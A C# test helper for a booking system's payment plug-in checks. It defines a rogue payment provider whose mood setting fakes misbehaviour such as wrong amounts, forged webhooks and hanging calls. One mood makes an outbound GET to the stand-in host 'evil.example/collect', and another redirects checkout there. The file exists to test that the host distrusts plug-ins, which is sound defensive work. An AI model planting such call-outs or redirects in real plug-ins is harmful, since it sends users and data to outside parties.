using System.Collections.Concurrent;
using Modular.Sdk;
using Modular.Sdk.Payments;

namespace Modular.Booking.Tests.Trust;

/// <summary>How a plug-in behaves.</summary>
public enum Mood
{
    Honest,
    Throws,
    Hangs,
    WrongCurrency,
    WrongAmount,
    OtherReference,
    OtherPayment,
    OverRefunded,
    NoSuchState,
    Null,
    Undeclared,
    Calls,
}

/// <summary>A payment plug-in that is honest until a test says otherwise. At its provider every page that was opened counts as paid.</summary>
internal sealed class Rogue(string id) : IPaymentProvider
{
    private readonly ConcurrentDictionary<string, (PaymentId Id, Money Amount)> _pages = new();
    private int _calls;

    public Mood Mood { get; set; }

    /// <summary>How often it was called at all.</summary>
    public int Calls => _calls;

    public PaymentProviderDescriptor Descriptor { get; } = new()
    {
        Id = id,
        Name = LocalText.Of(id, id),
        Summary = LocalText.Of("", ""),
        Capabilities = new() { CaptureModes = [CaptureMode.Automatic], PartialRefund = true, IdempotencyWindow = TimeSpan.FromDays(1), Webhooks = WebhookAuthentication.Signed },
        Settings = new() { Fields = [] },
    };

    public async ValueTask<PaymentOutcome<HostedCheckout>> BeginAsync(BeginPayment request, PaymentContext context, CancellationToken ct)
    {
        await BehaveAsync(context);
        var reference = request.Id.Value.ToString("N");
        _pages[reference] = (request.Id, request.Amount);
        return PaymentOutcome.Ok(new HostedCheckout { Payment = new ProviderRef(reference), Redirect = new Uri(Mood == Mood.Undeclared ? "https://evil.example/" : $"https://{id}.example/{reference}"), ExpiresAt = request.ExpiresAt });
    }

    public async ValueTask<PaymentOutcome<PaymentSnapshot>> GetAsync(GetPayment request, PaymentContext context, CancellationToken ct)
    {
        await BehaveAsync(context);
        var (payment, amount) = _pages[request.Payment.Value];
        var nothing = Money.Zero(amount.Currency);
        var truth = new PaymentSnapshot { Payment = request.Payment, Id = payment, State = PaymentState.Captured, Amount = amount, Authorised = amount, Captured = amount, Refunded = nothing, Disputed = nothing, AsOf = context.Clock.GetUtcNow() };
        var dollars = new Money(amount.Minor, "USD");
        return Mood == Mood.Null ? null! : PaymentOutcome.Ok(Mood switch
        {
            Mood.WrongCurrency => truth with { Amount = dollars, Authorised = dollars, Captured = dollars },
            Mood.WrongAmount => truth with { Amount = amount * 2, Captured = amount * 2 },
            Mood.OtherReference => truth with { Payment = new ProviderRef("somebody-elses") },
            Mood.OtherPayment => truth with { Id = new PaymentId(Guid.Parse("00000000-0000-7000-8000-000000000001")) },
            Mood.OverRefunded => truth with { Refunded = amount * 2 },
            Mood.NoSuchState => truth with { State = (PaymentState)99 },
            _ => truth,
        });
    }

    public ValueTask<PaymentOutcome<RefundSnapshot>> RefundAsync(RefundPayment request, PaymentContext context, CancellationToken ct) => ValueTask.FromResult(PaymentOutcome.NotSupported<RefundSnapshot>("refunds"));

    public ValueTask<PaymentOutcome<RefundSnapshot>> GetRefundAsync(GetRefund request, PaymentContext context, CancellationToken ct) => ValueTask.FromResult(PaymentOutcome.NotSupported<RefundSnapshot>("refunds"));

    /// <summary>Says of every call that it is genuine and about everything.</summary>
    public async ValueTask<WebhookReading> ReadWebhookAsync(RawWebhook webhook, PaymentContext context, CancellationToken ct)
    {
        await BehaveAsync(context);
        return new WebhookReading.Verified { DedupKey = "1", About = [.. _pages.Keys.Select(page => new WebhookReference { Payment = new ProviderRef(page) })] };
    }

    public ValueTask<SettingsReport> CheckSettingsAsync(PaymentContext context, CancellationToken ct) => ValueTask.FromResult(new SettingsReport());

    private async Task BehaveAsync(PaymentContext context)
    {
        Interlocked.Increment(ref _calls);
        switch (Mood)
        {
            case Mood.Throws:
                throw new InvalidOperationException("secret words");
            case Mood.Hangs:
                await new TaskCompletionSource().Task; // whatever the token says
                break;
            case Mood.Calls:
                using (await context.Http.GetAsync(new Uri("https://evil.example/collect")))
                {
                }

                break;
        }
    }
}
